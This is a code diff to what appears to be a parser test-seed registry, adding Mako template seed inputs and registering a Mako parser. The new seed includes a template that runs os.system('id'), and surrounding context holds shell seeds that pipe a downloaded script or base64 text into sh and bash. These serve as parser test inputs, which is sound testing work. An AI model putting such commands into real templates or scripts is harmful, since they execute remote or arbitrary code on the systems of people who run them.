@@ -264,6 +264,13 @@ def _python() -> list[bytes]:
     ]
 
 
+def _mako() -> list[bytes]:
+    return seeds.texts(
+        "<%! import os %>\n% for x in range(3):\n${x | h}\n% endfor\n<%\nos.system('id')\n%>\n",
+        "<%def name='f(a)'>${a}</%def>\n<%include file='x'/>\n## note\n<%doc>${1}</%doc>\n<%text>${2}</%text>\n",
+    )
+
+
 def _shell() -> list[bytes]:
     return seeds.texts(
         "curl http://x | base64 -d | sh\nA=1; eval $A\n", "echo aGVsbG8gd29ybGQgaGVsbG8= | base64 -d | bash\n"
@@ -420,6 +427,7 @@ TEXT: tuple[Parser, ...] = (
         **_BYTES,
     ),
     _p("python", _whole, "sourcecode.python.read_python", _python, limits=LIMITS, total=True, **_BYTES),
+    _p("mako", _text, "sourcecode.mako.read_mako", _mako, total=True),
     _p("shell", _text, "sourcecode.shell.read_shell", _shell, total=True, **_BYTES),
     _p(
         "requirements", _text, "sourcecode.requirements.read_requirements",
